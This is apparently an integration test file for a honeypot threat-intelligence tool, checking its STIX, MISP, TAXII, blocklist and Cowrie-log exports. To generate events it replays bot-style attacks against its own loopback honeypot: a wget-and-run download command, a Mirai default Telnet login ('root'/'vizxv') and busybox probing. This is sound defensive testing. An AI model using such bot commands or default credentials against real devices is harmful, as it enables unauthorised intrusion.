//! `hpti export`: STIX 2.1 bundles checked by the OASIS validator (`stix2_validator` from
//! PyPI), blocklists checked by `nft -c`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{fixture, hpti, run, stderr, stdout};
use hpti_core::event::{AuthMethod, Event, EventKind, Protocol, Timestamp};
use hpti_core::testing::{require_python_module, require_tool};

fn config(dir: &Path, intel: &str) -> PathBuf {
    let config = dir.join("hpti.toml");
    std::fs::write(
        &config,
        format!("[data]\ndir = {:?}\n\n[intel]\n{intel}\n", dir.join("data")),
    )
    .unwrap();
    config
}

fn export(config: &Path, args: &[&str]) -> std::process::Output {
    let output = run(hpti().arg("--config").arg(config).arg("export").args(args));
    assert!(output.status.success(), "{args:?}: {}", stderr(&output));
    output
}

/// Runs the OASIS validator over a bundle: strict (warnings are errors), every reference
/// resolved inside the bundle, no custom property; only check 103 ("SDO ids SHOULD be
/// UUIDv4") is off, since hpti's ids are UUIDv5 on purpose (re-exports update objects).
fn validate(bundle: &Path) -> Option<String> {
    if !require_tool("stix2_validator") {
        return None;
    }
    let output = run(Command::new("stix2_validator")
        .args([
            "--strict",
            "--disable",
            "103",
            "--enforce-refs",
            "--strict-properties",
        ])
        .arg(bundle));
    let report = format!("{}{}", stdout(&output), stderr(&output));
    assert!(output.status.success(), "stix2_validator: {report}");
    assert!(report.contains("STIX JSON: Valid"), "{report}");
    Some(report)
}

fn downloaded_in_cowrie_log() -> BTreeSet<String> {
    std::fs::read_to_string(fixture("testdata/cowrie/cowrie.json"))
        .unwrap()
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|r| r["eventid"] == "cowrie.session.file_download")
        .filter_map(|r| r["shasum"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn stix_bundles_of_the_fixtures_pass_the_oasis_validator_and_re_exports_keep_their_ids() {
    let dir = tempfile::tempdir().unwrap();
    // The fixtures' attackers are on loopback: a lab, so private addresses are included.
    let config = config(
        dir.path(),
        "include_private = true\ntlp = \"amber\"\nidentity = \"Example CERT honeynet\"",
    );
    common::ingest_fixtures(&config);
    let first = dir.path().join("first.json");
    let second = dir.path().join("second.json");
    for out in [&first, &second] {
        export(
            &config,
            &[
                "stix",
                "--since",
                "2000-01-01",
                "--out",
                out.to_str().unwrap(),
            ],
        );
    }
    // Deterministic: the same store gives the same bundle, byte for byte.
    let bytes = std::fs::read(&first).unwrap();
    assert_eq!(bytes, std::fs::read(&second).unwrap());
    let report = validate(&first);
    let bundle: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    let objects = bundle["objects"].as_array().unwrap();
    let of_type = |t: &str| -> Vec<&serde_json::Value> {
        objects.iter().filter(|o| o["type"] == t).collect()
    };
    let marking = of_type("marking-definition");
    assert_eq!(marking.len(), 1);
    assert_eq!(marking[0]["name"], "TLP:AMBER");
    let identity = of_type("identity");
    assert_eq!(identity[0]["name"], "Example CERT honeynet");
    let patterns: BTreeSet<&str> = of_type("indicator")
        .iter()
        .map(|i| i["pattern"].as_str().unwrap())
        .collect();
    let hashes = downloaded_in_cowrie_log();
    assert!(hashes.len() >= 2, "the fixture downloads files");
    for sha in &hashes {
        let pattern = format!("[file:hashes.'SHA-256' = '{sha}']");
        assert!(
            patterns.contains(pattern.as_str()),
            "{pattern} in {patterns:#?}"
        );
    }
    assert!(patterns.contains("[ipv4-addr:value = '127.0.0.1']"));
    assert!(
        patterns.iter().any(|p| p.starts_with("[url:value = 'http")),
        "{patterns:#?}"
    );
    // Each indicator is sighted by the operator, with its count.
    for indicator in of_type("indicator") {
        let sighting = of_type("sighting")
            .into_iter()
            .find(|s| s["sighting_of_ref"] == indicator["id"])
            .unwrap_or_else(|| panic!("no sighting of {indicator}"));
        assert_eq!(sighting["where_sighted_refs"][0], identity[0]["id"]);
        assert!(sighting["count"].as_u64().unwrap() >= 1);
        assert_eq!(indicator["object_marking_refs"][0], marking[0]["id"]);
    }
    // The window narrows what is exported; --until is exclusive.
    let none = export(
        &config,
        &["stix", "--since", "2000-01-01", "--until", "2001-01-01"],
    );
    let empty: serde_json::Value = serde_json::from_slice(&none.stdout).unwrap();
    assert_eq!(
        empty["objects"].as_array().unwrap().len(),
        2,
        "only the marking and the identity: {empty}"
    );
    // By default, loopback attackers are not exported at all.
    let strict = config_default(dir.path());
    let default = export(&strict, &["stix", "--since", "2000-01-01"]);
    let default: serde_json::Value = serde_json::from_slice(&default.stdout).unwrap();
    assert!(
        !default
            .to_string()
            .contains("ipv4-addr:value = '127.0.0.1'"),
        "{default}"
    );
    if let Some(report) = report {
        eprintln!("{}", report.lines().take(3).collect::<Vec<_>>().join("\n"));
    }
}

/// The same data directory with the default `[intel]` section.
fn config_default(dir: &Path) -> PathBuf {
    let config = dir.join("default.toml");
    std::fs::write(&config, format!("[data]\ndir = {:?}\n", dir.join("data"))).unwrap();
    config
}

fn login(ip: &str, n: u32) -> Event {
    Event::new(
        "ssh-edge",
        Protocol::Ssh,
        ip.parse().unwrap(),
        EventKind::LoginAttempt {
            username: "root".into(),
            password: Some(format!("pass{n}")),
            key_type: None,
            key_fingerprint: None,
            method: AuthMethod::Password,
            success: false,
        },
    )
    .with_time(Timestamp::from_micros(
        1_780_000_000_000_000 + i64::from(n) * 1_000_000,
    ))
}

#[test]
fn blocklists_hold_public_attackers_only_in_every_format_and_nft_accepts_them() {
    let dir = tempfile::tempdir().unwrap();
    // Even with private addresses included in the extraction, a blocklist never lists
    // one; the allow-list holds a partner's network.
    let config = config(
        dir.path(),
        "include_private = true\nallow = [\"185.220.101.0/24\", \"2a01:4f8::/32\"]",
    );
    let attackers = [
        ("45.33.32.156", 6),
        ("185.220.101.7", 9),
        ("10.0.0.5", 9),
        ("192.0.2.44", 9),
        ("2a01:4f8::1", 9),
        ("2606:4700::6810:1", 5),
        ("8.8.4.4", 1),
    ];
    let log = dir.path().join("events.jsonl");
    let mut lines = String::new();
    for (ip, n) in attackers {
        for i in 0..n {
            lines.push_str(&serde_json::to_string(&login(ip, i)).unwrap());
            lines.push('\n');
        }
    }
    std::fs::write(&log, lines).unwrap();
    let ingest = run(hpti()
        .arg("--config")
        .arg(&config)
        .args(["ingest", "--format", "hpti"])
        .arg(&log));
    assert!(ingest.status.success(), "{}", stderr(&ingest));

    let plain = export(
        &config,
        &["blocklist", "--since", "2000-01-01", "--min-events", "5"],
    );
    assert_eq!(stdout(&plain), "45.33.32.156\n2606:4700::6810:1\n");
    let csv = export(
        &config,
        &[
            "blocklist",
            "--since",
            "2000-01-01",
            "--min-events",
            "5",
            "--format",
            "csv",
        ],
    );
    let csv = stdout(&csv);
    let mut rows = csv.lines();
    assert_eq!(
        rows.next(),
        Some("ip,first_seen,last_seen,events,confidence,country,asn")
    );
    let first: Vec<&str> = rows.next().unwrap().split(',').collect();
    assert_eq!(first[0], "45.33.32.156");
    assert_eq!(first[3], "6");
    assert_eq!(first[4], "50", "login attempts only");
    let all = export(&config, &["blocklist", "--since", "2000-01-01"]);
    assert_eq!(
        stdout(&all),
        "8.8.4.4\n45.33.32.156\n2606:4700::6810:1\n",
        "--min-events defaults to 1"
    );
    let script = dir.path().join("blocklist.nft");
    export(
        &config,
        &[
            "blocklist",
            "--since",
            "2000-01-01",
            "--format",
            "nftables",
            "--out",
            script.to_str().unwrap(),
        ],
    );
    if require_tool("nft") {
        let check = run(Command::new("nft").arg("-c").arg("-f").arg(&script));
        assert!(
            check.status.success(),
            "nft -c: {}\n{}",
            stderr(&check),
            std::fs::read_to_string(&script).unwrap()
        );
    }
    let ipset = export(
        &config,
        &["blocklist", "--since", "2000-01-01", "--format", "ipset"],
    );
    assert!(stdout(&ipset).contains("add hpti-blocklist-new 45.33.32.156 -exist\n"));
    assert!(stdout(&ipset).contains("add hpti-blocklist6-new 2606:4700::6810:1 -exist\n"));
    assert!(stdout(&ipset).contains("swap hpti-blocklist-new hpti-blocklist\n"));
    // A bad format is refused, naming the choices.
    let bad =
        run(hpti()
            .arg("--config")
            .arg(&config)
            .args(["export", "blocklist", "--format", "pf"]));
    assert!(!bad.status.success());
    assert!(
        stderr(&bad).contains("plain, csv, nftables, ipset"),
        "{}",
        stderr(&bad)
    );

    // The same list for firewalls to poll, from the API, with an ETag.
    if !require_tool("curl") {
        return;
    }
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("\n[metrics]\nenabled = false\n\n[sensors]\n\n[api]\nlisten = \"127.0.0.1:0\"\n");
    std::fs::write(&config, text).unwrap();
    let token = common::api_token(&config, "viewer", "firewall");
    let (child, mut log) = common::spawn_run(&config);
    let addr = common::api_address(&mut log);
    let panics = common::panics_in(log);
    let get = |path: &str, etag: Option<&str>| -> String {
        let mut command = Command::new("curl");
        command.args(["-s", "-i", "-H", &format!("Authorization: Bearer {token}")]);
        if let Some(etag) = etag {
            command.args(["-H", &format!("If-None-Match: {etag}")]);
        }
        stdout(&run(command.arg(format!("http://{addr}{path}"))))
    };
    let first = get("/api/v1/blocklist?since=100000d&min_events=5", None);
    assert!(first.starts_with("HTTP/1.1 200"), "{first}");
    let (head, body) = first.split_once("\r\n\r\n").unwrap();
    assert_eq!(body, "45.33.32.156\n2606:4700::6810:1\n");
    let etag = head
        .lines()
        .find_map(|l| l.strip_prefix("etag: "))
        .unwrap_or_else(|| panic!("no ETag in {head}"))
        .to_owned();
    let again = get("/api/v1/blocklist?since=100000d&min_events=5", Some(&etag));
    assert!(again.starts_with("HTTP/1.1 304"), "{again}");
    let csv = get("/api/v1/blocklist?since=100000d&format=csv", None);
    assert!(csv.contains("content-type: text/csv"), "{csv}");
    assert!(csv.contains("\r\n\r\nip,first_seen,"), "{csv}");
    let bad = get("/api/v1/blocklist?format=pf", None);
    assert!(bad.starts_with("HTTP/1.1 400"), "{bad}");
    let anonymous = stdout(&run(Command::new("curl")
        .args(["-s", "-i"])
        .arg(format!("http://{addr}/api/v1/blocklist"))));
    assert!(anonymous.starts_with("HTTP/1.1 401"), "{anonymous}");
    common::stop_cleanly(child, panics);
}

/// The fields Cowrie 3.x's own code writes for each eventid (besides the envelope).
fn cowrie_fields(eventid: &str) -> &'static [&'static str] {
    match eventid {
        "cowrie.session.connect" => &["src_port", "dst_ip", "dst_port"],
        "cowrie.client.version" => &["version"],
        "cowrie.client.kex" => &[
            "hassh",
            "hasshAlgorithms",
            "kexAlgs",
            "keyAlgs",
            "encCS",
            "macCS",
            "compCS",
            "langCS",
        ],
        "cowrie.login.success" | "cowrie.login.failed" => &["username"],
        "cowrie.command.input" => &["input"],
        "cowrie.session.file_download" => &["url", "outfile", "shasum", "duplicate"],
        "cowrie.session.file_download.failed" => &["url"],
        "cowrie.session.file_upload" => &["filename", "outfile", "shasum"],
        "cowrie.session.closed" => &["duration_ms"],
        "cowrie.direct-tcpip.request" => &["dst_ip", "dst_port"],
        other => panic!("hpti wrote an eventid Cowrie's tools may not know: {other}"),
    }
}

/// Reads from a Telnet session until `needle` (or a timeout).
fn read_until(stream: &mut std::net::TcpStream, needle: &str) {
    use std::io::Read as _;
    let mut seen = Vec::new();
    let mut byte = [0u8; 1];
    while !String::from_utf8_lossy(&seen).contains(needle) {
        match stream.read(&mut byte) {
            Ok(1) => seen.push(byte[0]),
            _ => break,
        }
    }
}

/// What must come back from a Cowrie line: everything but what Cowrie has no place
/// for (the enrichment, the raw line).
fn comparable(event: &Event) -> serde_json::Value {
    let mut value = serde_json::to_value(event).unwrap();
    let object = value.as_object_mut().unwrap();
    object.remove("enrichment");
    object.remove("raw");
    object.remove("observed");
    value
}

#[test]
fn events_of_the_ssh_and_telnet_sensors_written_as_cowrie_json_come_back_exactly() {
    use std::io::Write as _;
    use std::net::TcpStream;
    use std::time::Duration;

    if !require_tool("ssh") || !require_tool("sshpass") || !require_tool("scp") {
        return;
    }
    let (_runtime, server) = common::file_server("/bins/x86.sh", b"#!/bin/sh\necho hi\n".to_vec());
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("hpti.toml");
    std::fs::write(
        &config,
        format!(
            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n\
             [sensors.ssh]\ntype = \"ssh\"\nlisten = \"127.0.0.1:0\"\n\n\
             [sensors.telnet]\ntype = \"telnet\"\nlisten = \"127.0.0.1:0\"\nlogin_failure_delay = \"10ms\"\n\n\
             [honeypot.fetch]\nallow = [\"127.0.0.1/32\"]\n\n\
             [sinks.main]\ntype = \"sqlite\"\n\n\
             [sinks.cowrie]\ntype = \"cowrie-json\"\npath = \"log/cowrie.json\"\n",
            dir.path().join("data")
        ),
    )
    .unwrap();
    let (mut child, mut log) = common::spawn_run(&config);
    let (ssh, telnet) = common::ssh_and_telnet(&mut log);
    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
    let ssh_port = ssh.rsplit(':').next().unwrap().to_owned();
    let ssh_options = |password: &str| -> Command {
        let mut command = Command::new("sshpass");
        command.args(["-p", password]);
        command
    };
    let common_options = [
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "LogLevel=ERROR",
    ];
    // A wrong password first (the honeypot refuses `root:root`? any refusal will do),
    // then an exec session that downloads a file and one whose download fails.
    let _ = run(ssh_options("x").arg("ssh").args(common_options).args([
        "-o",
        "NumberOfPasswordPrompts=1",
        "-p",
        &ssh_port,
        "nobody-here@127.0.0.1",
        "id",
    ]));
    let command = format!(
        "cd /tmp; wget {}/bins/x86.sh; wget http://127.0.0.1:1/none.sh; uname -a",
        server.uri()
    );
    let exec = run(ssh_options("admin123")
        .arg("ssh")
        .args(common_options)
        .args(["-p", &ssh_port, "root@127.0.0.1", &command]));
    assert!(exec.status.success(), "{}", stderr(&exec));
    // An upload over SFTP (scp's protocol since OpenSSH 9.0).
    let upload = dir.path().join("payload.bin");
    std::fs::write(&upload, b"\x7fELF uploaded over sftp").unwrap();
    let scp = run(ssh_options("admin123")
        .arg("scp")
        .args(common_options)
        .args(["-P", &ssh_port])
        .arg(&upload)
        .arg("root@127.0.0.1:/tmp/"));
    assert!(scp.status.success(), "{}", stderr(&scp));
    // A direct-tcpip forward request (`ssh -W`), refused by the honeypot.
    let _ = run(ssh_options("admin123")
        .arg("timeout")
        .args(["10", "ssh"])
        .args(common_options)
        .args([
            "-p",
            &ssh_port,
            "-W",
            "mail.example.com:25",
            "root@127.0.0.1",
        ]));
    // Telnet, as a bot.
    let mut stream = TcpStream::connect(telnet).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    read_until(&mut stream, "login: ");
    stream.write_all(b"root\r\n").unwrap();
    read_until(&mut stream, "Password: ");
    stream.write_all(b"vizxv\r\n").unwrap();
    read_until(&mut stream, "# ");
    stream
        .write_all(b"cat /proc/cpuinfo; /bin/busybox ECCHI\r\n")
        .unwrap();
    read_until(&mut stream, "applet not found");
    stream.write_all(b"exit\r\n").unwrap();
    read_until(&mut stream, "logout");
    drop(stream);
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        Command::new("kill")
            .args(["-TERM", &child.0.id().to_string()])
            .status()
            .unwrap()
            .success()
    );
    assert!(child.0.wait().unwrap().success());
    drain.join().unwrap();

    let original = common::all_events(&dir.path().join("data/hpti.db"));
    let cowrie_json = dir.path().join("data/log/cowrie.json");
    let text = std::fs::read_to_string(&cowrie_json).unwrap();
    // Every line carries Cowrie's envelope and the fields Cowrie writes for its eventid.
    let mut eventids = BTreeSet::new();
    for line in text.lines() {
        let record: serde_json::Value = serde_json::from_str(line).unwrap();
        let eventid = record["eventid"].as_str().unwrap();
        for field in [
            "eventid",
            "session",
            "protocol",
            "src_ip",
            "src_port",
            "sensor",
            "uuid",
            "timestamp",
            "message",
        ]
        .iter()
        .chain(cowrie_fields(eventid))
        {
            assert!(
                !record[field].is_null(),
                "{eventid} without {field}: {line}"
            );
        }
        let timestamp = record["timestamp"].as_str().unwrap();
        assert_eq!(
            timestamp.len(),
            27,
            "six fractional digits and Z: {timestamp}"
        );
        assert!(timestamp.ends_with('Z'));
        eventids.insert(eventid.to_owned());
    }
    for expected in [
        "cowrie.session.connect",
        "cowrie.client.version",
        "cowrie.client.kex",
        "cowrie.login.success",
        "cowrie.login.failed",
        "cowrie.command.input",
        "cowrie.session.file_download",
        "cowrie.session.file_download.failed",
        "cowrie.session.file_upload",
        "cowrie.direct-tcpip.request",
        "cowrie.session.closed",
    ] {
        assert!(eventids.contains(expected), "no {expected} in {eventids:?}");
    }

    // Read back into an empty store: the same events, ids included.
    let back = dir.path().join("back");
    let back_config = dir.path().join("back.toml");
    std::fs::write(&back_config, format!("[data]\ndir = {back:?}\n")).unwrap();
    let ingest = run(hpti()
        .arg("--config")
        .arg(&back_config)
        .args(["ingest", "--format", "cowrie"])
        .arg(&cowrie_json));
    assert!(ingest.status.success(), "{}", stderr(&ingest));
    let restored = common::all_events(&back.join("hpti.db"));
    let (written, skipped): (Vec<&Event>, Vec<&Event>) = original
        .iter()
        .partition(|e| hpti_intel::cowrie::to_cowrie(e).is_some());
    // What is not written is what Cowrie has no event for: the Telnet option fingerprint.
    for event in &skipped {
        assert!(
            matches!(&event.kind, EventKind::ClientFingerprint { method, .. } if method != "hassh"),
            "{event:?} was not written"
        );
    }
    assert_eq!(written.len(), text.lines().count());
    let mut want: Vec<serde_json::Value> = written.iter().map(|e| comparable(e)).collect();
    let mut have: Vec<serde_json::Value> = restored.iter().map(comparable).collect();
    let key = |v: &serde_json::Value| v["id"].as_str().unwrap().to_owned();
    want.sort_by_key(key);
    have.sort_by_key(key);
    assert_eq!(have.len(), want.len());
    for (have, want) in have.iter().zip(&want) {
        assert_eq!(have, want);
    }
    // hpti's own Cowrie log ingested into the store it came from adds nothing.
    let again = run(hpti()
        .arg("--config")
        .arg(&config)
        .args(["ingest", "--format", "cowrie"])
        .arg(&cowrie_json));
    assert!(again.status.success(), "{}", stderr(&again));
    assert!(
        stderr(&again).contains(&format!("0 stored, {} already stored", written.len()))
            || stdout(&again).contains(&format!("0 stored, {} already stored", written.len())),
        "{}{}",
        stdout(&again),
        stderr(&again)
    );
    // And `hpti export cowrie` writes the same lines as the sink did.
    let exported = export(&config, &["cowrie", "--since", "2000-01-01"]);
    assert_eq!(stdout(&exported), text);
}

#[test]
fn misp_events_per_day_and_per_session_are_loaded_strictly_by_pymisp() {
    let dir = tempfile::tempdir().unwrap();
    let config = config(dir.path(), "include_private = true\ntlp = \"clear\"");
    common::ingest_fixtures(&config);
    let checker = fixture("hpti-bin/tests/python/check_misp.py");
    for per in ["day", "session"] {
        let out = dir.path().join(format!("misp-{per}.json"));
        export(
            &config,
            &[
                "misp",
                "--since",
                "2000-01-01",
                "--per",
                per,
                "--out",
                out.to_str().unwrap(),
            ],
        );
        let again = export(&config, &["misp", "--since", "2000-01-01", "--per", per]);
        assert_eq!(
            again.stdout,
            std::fs::read(&out).unwrap(),
            "a re-export is the same (uuids from the content)"
        );
        let document: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
        let events = document["response"].as_array().unwrap();
        let attributes: Vec<&serde_json::Value> = events
            .iter()
            .flat_map(|e| e["Event"]["Attribute"].as_array().unwrap())
            .collect();
        let values = |kind: &str| -> BTreeSet<String> {
            attributes
                .iter()
                .filter(|a| a["type"] == kind)
                .map(|a| a["value"].as_str().unwrap().to_owned())
                .collect()
        };
        for sha in downloaded_in_cowrie_log() {
            assert!(values("sha256").contains(&sha), "{per}: no sha256 {sha}");
        }
        assert!(values("ip-src").contains("127.0.0.1"), "{per}");
        assert!(values("url").iter().any(|u| u.starts_with("http")), "{per}");
        assert!(!values("text").is_empty(), "{per}: commands");
        assert!(!values("hassh-md5").is_empty(), "{per}: HASSH");
        assert!(
            attributes.iter().any(|a| a["type"] == "text"
                && a["value"] == "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10"
                && a["comment"]
                    .as_str()
                    .unwrap()
                    .starts_with("SSH client version")),
            "{per}: the client's version"
        );
        let tags: Vec<&str> = events[0]["Event"]["Tag"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["name"].as_str().unwrap())
            .collect();
        assert!(tags.contains(&"tlp:clear"), "{tags:?}");
        assert!(
            tags.iter().any(|t| t.starts_with("honeypot-basic:")),
            "{tags:?}"
        );
        let sessions = events
            .iter()
            .flat_map(|e| e["Event"]["Object"].as_array().unwrap())
            .filter(|o| o["name"] == "cowrie")
            .count();
        match per {
            // The fixtures: one day, and every session of the three logs.
            "day" => assert!(
                !events.is_empty() && sessions > 10,
                "{} events, {sessions} sessions",
                events.len()
            ),
            _ => assert_eq!(
                events.len(),
                sessions,
                "one cowrie object per session event"
            ),
        }
        // Addresses and files seen more than once carry a sighting.
        assert!(
            attributes
                .iter()
                .any(|a| a["type"] == "ip-src" && a["Sighting"].is_array()),
            "{per}"
        );
        if require_python_module("pymisp", "pymisp") {
            let check = run(Command::new("python3").arg(&checker).arg(&out));
            assert!(
                check.status.success(),
                "PyMISP refused the {per} export: {}{}",
                stdout(&check),
                stderr(&check)
            );
            assert_eq!(
                stdout(&check)
                    .lines()
                    .filter(|l| l.starts_with("ok "))
                    .count(),
                events.len()
            );
        }
    }
}

/// `hpti ingest`s the Cowrie fixture with its downloads and a Mirai-like bot that a
/// second log says was fetched, under the shipped YARA rules: a flagged file with a
/// family. Returns the config (with `extra` appended).
fn store_with_malware(dir: &Path, extra: &str) -> PathBuf {
    let repo = fixture("");
    let config = dir.join("hpti.toml");
    std::fs::write(
        &config,
        format!(
            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n[analysis]\nyara_rules = {:?}\n\n[intel]\ninclude_private = true\n\n[sensors]\n\n{extra}",
            dir.join("data"),
            repo.join("rules/yara"),
        ),
    )
    .unwrap();
    common::ingest_cowrie_with_mirai(&config, dir);
    config
}

#[test]
fn taxii2_client_pages_through_both_collections_and_what_it_reads_is_valid_stix() {
    if !require_tool("curl") {
        return;
    }
    if !require_python_module("taxii2client", "taxii2-client") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let config = store_with_malware(
        dir.path(),
        "[api]\nlisten = \"127.0.0.1:0\"\ntaxii = true\ntaxii_window = \"100000d\"\n",
    );
    // The export has the family YARA named, and its relationships, and is valid.
    let bundle_path = dir.path().join("export.json");
    export(
        &config,
        &[
            "stix",
            "--since",
            "2000-01-01",
            "--out",
            bundle_path.to_str().unwrap(),
        ],
    );
    validate(&bundle_path);
    let bundle: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&bundle_path).unwrap()).unwrap();
    let objects = bundle["objects"].as_array().unwrap();
    let malware: Vec<&serde_json::Value> =
        objects.iter().filter(|o| o["type"] == "malware").collect();
    assert_eq!(malware.len(), 1, "{malware:#?}");
    assert_eq!(malware[0]["name"], "Mirai_Bot");
    assert_eq!(malware[0]["malware_types"][0], "bot");
    let indicates: Vec<&serde_json::Value> = objects
        .iter()
        .filter(|o| o["type"] == "relationship" && o["target_ref"] == malware[0]["id"])
        .collect();
    assert_eq!(
        indicates.len(),
        2,
        "the file's and the URL's indicators: {indicates:#?}"
    );
    // MD5 and SHA-1 are computed from the bytes in the artifact store.
    let bot = dir.path().join("bot.bin");
    std::fs::write(&bot, common::mirai_like_elf()).unwrap();
    let digest = |tool: &str| -> String {
        let output = run(Command::new(tool).arg(&bot));
        stdout(&output)
            .split_whitespace()
            .next()
            .unwrap()
            .to_owned()
    };
    let mirai_file = objects
        .iter()
        .find(|o| o["type"] == "file" && o["hashes"]["SHA-256"] == digest("sha256sum").as_str())
        .expect("the bot's file object");
    assert_eq!(mirai_file["hashes"]["MD5"], digest("md5sum").as_str());
    assert_eq!(mirai_file["hashes"]["SHA-1"], digest("sha1sum").as_str());
    assert_eq!(mirai_file["size"], 2048);

    let token = common::api_token(&config, "viewer", "cti");
    let (child, mut log) = common::spawn_run(&config);
    let addr = common::api_address(&mut log);
    let panics = common::panics_in(log);
    let discovery = format!("http://{addr}/taxii2/");
    let poll = |added_after: Option<&str>| -> (String, PathBuf) {
        let out = dir
            .path()
            .join(format!("taxii-{}.json", added_after.is_some()));
        let mut command = Command::new("timeout");
        command
            .args(["120", "python3"])
            .arg(fixture("hpti-bin/tests/python/taxii_poll.py"))
            .args([&discovery, &token, "3"])
            .arg(&out);
        if let Some(after) = added_after {
            command.arg(after);
        }
        let output = run(&mut command);
        assert!(
            output.status.success(),
            "taxii2-client: {}{}",
            stdout(&output),
            stderr(&output)
        );
        (stdout(&output), out)
    };
    let (report, read) = poll(None);
    let collection = |alias: &str| -> Vec<u64> {
        report
            .lines()
            .find_map(|l| l.strip_prefix(&format!("collection {alias} ")))
            .unwrap_or_else(|| panic!("no {alias} in {report}"))
            .split(' ')
            .map(|n| n.parse().unwrap())
            .collect()
    };
    let indicators = collection("hpti-indicators");
    let sightings = collection("hpti-sightings");
    // Every object of the export is in one of the collections (the identity and the
    // marking in both), read over several pages of 3, and the manifest lists the same.
    let count = |types: &[&str]| {
        objects
            .iter()
            .filter(|o| types.contains(&o["type"].as_str().unwrap()))
            .count() as u64
    };
    assert_eq!(
        indicators[0],
        count(&[
            "indicator",
            "malware",
            "relationship",
            "identity",
            "marking-definition"
        ])
    );
    assert_eq!(indicators[0], indicators[2], "objects and manifest agree");
    assert!(
        indicators[1] >= indicators[0].div_ceil(3),
        "paged: {indicators:?}"
    );
    assert_eq!(sightings[0], objects.len() as u64 - indicators[0] + 2);
    assert!(sightings[1] > 1);
    // What the client read is one valid STIX whole (every reference resolves).
    validate(&read);
    // Polling again from the newest date added gives nothing new.
    let newest = report
        .lines()
        .find_map(|l| l.strip_prefix("last "))
        .unwrap()
        .to_owned();
    assert!(newest.ends_with('Z'), "{report}");
    let (again, _) = poll(Some(&newest));
    assert!(again.contains("total 0"), "{again}");
    // The TAXII headers and media types, a wrong Accept, no token.
    let curl = |args: &[&str]| -> String {
        // -g: `match[type]` is TAXII's, not a curl glob.
        let output = run(Command::new("curl").args(["-s", "-g", "-i"]).args(args));
        stdout(&output)
    };
    let page = curl(&[
        "-H",
        &format!("Authorization: Bearer {token}"),
        "-H",
        "Accept: application/taxii+json;version=2.1",
        &format!(
            "http://{addr}/taxii2/hpti/collections/hpti-sightings/objects/?limit=2&match[type]=sighting"
        ),
    ]);
    assert!(page.starts_with("HTTP/1.1 200"), "{page}");
    let lower = page.to_ascii_lowercase();
    assert!(
        lower.contains("content-type: application/taxii+json;version=2.1"),
        "{page}"
    );
    assert!(lower.contains("x-taxii-date-added-first: "), "{page}");
    assert!(lower.contains("x-taxii-date-added-last: "), "{page}");
    let body: serde_json::Value =
        serde_json::from_str(page.split("\r\n\r\n").nth(1).unwrap()).unwrap();
    assert_eq!(body["more"], true, "{body}");
    assert!(body["next"].as_str().is_some_and(|n| !n.is_empty()));
    assert!(
        body["objects"]
            .as_array()
            .unwrap()
            .iter()
            .all(|o| o["type"] == "sighting")
    );
    let wrong_accept = curl(&[
        "-H",
        &format!("Authorization: Bearer {token}"),
        "-H",
        "Accept: application/json",
        &format!("http://{addr}/taxii2/"),
    ]);
    assert!(wrong_accept.starts_with("HTTP/1.1 406"), "{wrong_accept}");
    let anonymous = curl(&[&format!("http://{addr}/taxii2/hpti/collections/")]);
    assert!(anonymous.starts_with("HTTP/1.1 401"), "{anonymous}");
    let bad_next = curl(&[
        "-H",
        &format!("Authorization: Bearer {token}"),
        &format!("http://{addr}/taxii2/hpti/collections/hpti-indicators/objects/?next=nonsense"),
    ]);
    assert!(bad_next.starts_with("HTTP/1.1 400"), "{bad_next}");
    common::stop_cleanly(child, panics);
}
